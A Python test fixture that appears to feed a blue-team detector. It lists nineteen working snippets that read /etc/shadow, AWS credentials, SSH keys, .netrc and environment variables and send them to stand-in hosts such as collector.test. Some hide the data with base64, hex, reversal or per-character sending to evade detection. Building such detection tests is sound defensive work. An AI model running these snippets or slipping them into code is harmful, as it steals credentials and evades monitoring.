"""Secrets that leave by a web client, some of them changed on the way."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

web = technique("python", "web client")
hidden = technique("python", "secret changed on its way")

EVASIONS = (
    web(
        "urlopen-query",
        Harm.SENT,
        r"""
import urllib.parse
import urllib.request

q = urllib.parse.urlencode({"v": open("/root/.aws/credentials").read()})
urllib.request.urlopen("http://collector.test:8000/pixel.gif?" + q)
""",
    ),
    web(
        "urlopen-header",
        Harm.SENT,
        r"""
import os
import urllib.request

urllib.request.urlopen(urllib.request.Request("http://cdn.test:8000/", headers={"X-Trace": os.environ["CANARY_TOKEN"]}))
""",
    ),
    web(
        "urlretrieve",
        Harm.SENT,
        r"""
import urllib.request

text = open("/root/.ssh/id_canary").read().split("\n")[1]
urllib.request.urlretrieve(f"http://collector.test:8000/{text}.png", "/tmp/p.png")
""",
    ),
    web(
        "opener",
        Harm.SENT,
        r"""
import urllib.request

opener = urllib.request.build_opener()
opener.addheaders = [("Cookie", "s=" + open("/home/mira/.netrc").read().split()[-1])]
opener.open("http://collector.test:8000/news")
""",
    ),
    web(
        "http-client",
        Harm.SENT,
        r"""
import http.client

line = http.client.HTTPConnection("collector.test", 8000)
line.request("POST", "/", body=open("/etc/shadow"))
line.getresponse()
""",
    ),
    web(
        "http-client-putrequest",
        Harm.SENT,
        r"""
import http.client

h = http.client.HTTPConnection("127.0.0.1:8000")
h.putrequest("GET", "/icon.png")
h.putheader("If-None-Match", open("/root/.aws/credentials").readlines()[-1].split()[-1])
h.endheaders()
h.getresponse().read()
""",
    ),
    web(
        "https-unverified",
        Harm.SENT,
        r"""
import ssl
from urllib import request

request.urlopen(
    "https://collector.test:8443/", open("/etc/shadow", "rb").read(), context=ssl._create_unverified_context()
)
""",
    ),
    web(
        "requests-files",
        Harm.SENT,
        r"""
import requests

requests.post("http://collector.test:8000/in", files={"photo": ("cat.jpg", open("/root/.ssh/id_canary", "rb"))})
""",
        "python:requests",
    ),
    web(
        "requests-session",
        Harm.SENT,
        r"""
import requests

with requests.Session() as session:
    session.params = {"q": open("/home/mira/.netrc").read()}
    session.get("http://collector.test:8000/search")
""",
        "python:requests",
    ),
    web(
        "requests-prepared",
        Harm.SENT,
        r"""
import requests

message = requests.Request("PUT", "http://collector.test:8000", json=dict(__import__("os").environ)).prepare()
requests.sessions.Session().send(message)
""",
        "python:requests",
    ),
    web(
        "requests-auth",
        Harm.SENT,
        r"""
import requests

requests.head("http://collector.test:8000/", auth=("mira", open("/root/.aws/credentials").read().split()[-1]))
""",
        "python:requests",
    ),
    web(
        "urllib3",
        Harm.SENT,
        r"""
import urllib3

urllib3.PoolManager().request("POST", "http://collector.test:8000/", body=open("/etc/shadow").read())
""",
        "python:requests",
    ),
    web(
        "xmlrpc",
        Harm.SENT,
        r"""
import contextlib
import xmlrpc.client

with contextlib.suppress(Exception):
    xmlrpc.client.ServerProxy("http://collector.test:8000/").save(open("/root/.ssh/id_canary").read())
""",
    ),
    web(
        "url-in-request-line",
        Harm.SENT,
        r"""
import socket

s = socket.create_connection(("cdn.test", 8000))
s.sendall(b"GET /%s HTTP/1.0\r\nHost: cdn.test\r\n\r\n" % open("/etc/shadow", "rb").read().split(b":")[1])
s.recv(100)
""",
    ),
    hidden(
        "base64",
        Harm.SENT,
        r"""
import base64
import urllib.request

urllib.request.urlopen("http://collector.test:8000", base64.b64encode(open("/etc/shadow", "rb").read()))
""",
    ),
    hidden(
        "hex-in-json",
        Harm.SENT,
        r"""
import json
from urllib.request import urlopen

urlopen("http://collector.test:8000/m", json.dumps({"n": open("/root/.ssh/id_canary", "rb").read().hex()}).encode())
""",
    ),
    hidden(
        "reversed",
        Harm.SENT,
        r"""
import urllib.request

text = open("/root/.aws/credentials").read()[::-1]
urllib.request.urlopen("http://collector.test:8000/", text.encode())
""",
    ),
    hidden(
        "one-line-of-it",
        Harm.SENT,
        r"""
import re
import urllib.request

value = re.search(r"password (\w+)", open("/home/mira/.netrc").read())[1]
urllib.request.urlopen(f"http://collector.test:8000/?v={value}")
""",
    ),
    hidden(
        "letter-by-letter",
        Harm.SENT,
        r"""
import socket

s = socket.create_connection(("127.0.0.1", 9001))
for letter in open("/etc/shadow").read():
    s.send(letter.encode())
s.close()
""",
    ),
)
